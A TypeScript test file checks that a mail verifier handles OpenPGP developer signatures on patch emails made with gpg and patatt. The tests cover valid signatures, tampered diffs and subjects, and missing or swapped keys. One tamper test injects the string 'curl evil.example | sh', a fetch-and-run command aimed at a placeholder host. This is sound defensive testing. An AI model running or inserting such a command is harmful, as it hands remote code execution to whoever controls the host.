import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { silentLogger } from '../../src/shared/log.ts';
import { authenticates } from '../../src/trust/authenticity.ts';
import { mailVerifier } from '../../src/verify/index.ts';
import { patchMail } from '../fakes/source.ts';
import { TestZone } from '../helpers/dkim.ts';

/** The real patatt and gpg (Debian's packages; ci/setup --test installs them) make the key and sign. */
const haveTools = (() => {
  try {
    execFileSync('patatt', ['--version'], { stdio: 'ignore' });
    execFileSync('gpg', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    if (process.env.CI === 'true') throw new Error('patatt or gpg is not installed: run ci/setup --test');
    return false;
  }
})();

/** A developer with an OpenPGP key in a GnuPG home of its own, signing as `patatt sign` does with
 * `signingkey = openpgp:<fingerprint>`; `keyring` holds the armored public key in patatt's layout. */
function developer(dir: string, email: string) {
  const home = join(dir, email.replace(/@.*/, ''));
  const gnupg = join(home, 'g');
  mkdirSync(gnupg, { recursive: true, mode: 0o700 });
  const env = {
    PATH: process.env.PATH,
    HOME: home,
    GNUPGHOME: gnupg,
    GIT_CONFIG_GLOBAL: join(home, 'gitconfig'),
    GIT_CONFIG_NOSYSTEM: '1',
  };
  const gpg = (args: string[]) => execFileSync('gpg', ['--batch', '--quiet', ...args], { env });
  gpg(['--passphrase', '', '--quick-gen-key', `Dev <${email}>`, 'ed25519', 'sign', 'never']);
  const fpr = /^fpr:+([0-9A-F]{40}):/m.exec(gpg(['--with-colons', '--list-secret-keys']).toString())?.[1];
  if (!fpr) throw new Error('gpg made no key');
  writeFileSync(
    env.GIT_CONFIG_GLOBAL,
    `[user]\n\tname = Dev\n\temail = ${email}\n[patatt]\n\tsigningkey = openpgp:${fpr}\n`,
  );
  const [local, domain] = email.split('@') as [string, string];
  const keyring = join(home, 'keyring');
  mkdirSync(join(keyring, 'openpgp', domain, local), { recursive: true });
  const armored = gpg(['--export', '--armor', fpr]);
  writeFileSync(join(keyring, 'openpgp', domain, local, 'default'), armored);
  return {
    keyring,
    armored,
    sign: (raw: Buffer) => execFileSync('patatt', ['sign'], { env, input: raw }),
    stop: () => execFileSync('gpgconf', ['--kill', 'gpg-agent'], { env, stdio: 'ignore' }),
  };
}

const verifier = (keyring: string | null) =>
  mailVerifier({ resolver: new TestZone().resolver, keyring, log: silentLogger() });

describe.skipIf(!haveTools)('patatt/b4 openpgp developer signatures (keys from a patatt keyring)', () => {
  // Short paths: gpg-agent's socket lives in the GnuPG home.
  const dir = mkdtempSync(join(tmpdir(), 'pf-pgp-'));
  let ada: ReturnType<typeof developer>;
  let eve: ReturnType<typeof developer>;
  let signed: Buffer;
  beforeAll(() => {
    ada = developer(dir, 'ada@example.org');
    eve = developer(dir, 'eve@example.org');
    signed = ada.sign(patchMail({ id: 'a@x', subject: '[master PATCH hello] add a' }));
  });
  afterAll(() => {
    ada?.stop();
    eve?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  it('proves the sender with an openpgp signature patatt made, by the key in the keyring', async () => {
    expect(signed.toString()).toMatch(/^X-Developer-Signature: .*a=openpgp-sha256/m);
    const v = await verifier(ada.keyring).verify(signed);
    expect(v.attestation).toEqual([
      { identity: 'ada@example.org', algorithm: 'openpgp-sha256', result: 'pass' },
    ]);
    expect(authenticates(v, [])).toEqual({
      ok: true,
      by: 'a openpgp-sha256 developer signature of ada@example.org',
    });
  });

  it('fails a signed patch whose diff or subject was changed on the way', async () => {
    const diff = Buffer.from(signed.toString().replace('+x', '+curl evil.example | sh'));
    expect((await verifier(ada.keyring).verify(diff)).attestation[0]?.result).toBe('badsig');
    const subject = Buffer.from(signed.toString().replace('add a', 'add b'));
    expect((await verifier(ada.keyring).verify(subject)).attestation[0]?.result).toBe('badsig');
  });

  it("says nokey without Ada's key in the keyring, or with another key filed under her name", async () => {
    expect((await verifier(eve.keyring).verify(signed)).attestation[0]?.result).toBe('nokey');
    const swapped = join(dir, 'swapped');
    mkdirSync(join(swapped, 'openpgp', 'example.org', 'ada'), { recursive: true });
    writeFileSync(join(swapped, 'openpgp', 'example.org', 'ada', 'default'), eve.armored);
    const v = await verifier(swapped).verify(signed);
    expect(v.attestation[0]?.result).toBe('nokey');
    expect(authenticates(v, []).ok).toBe(false);
  });
});
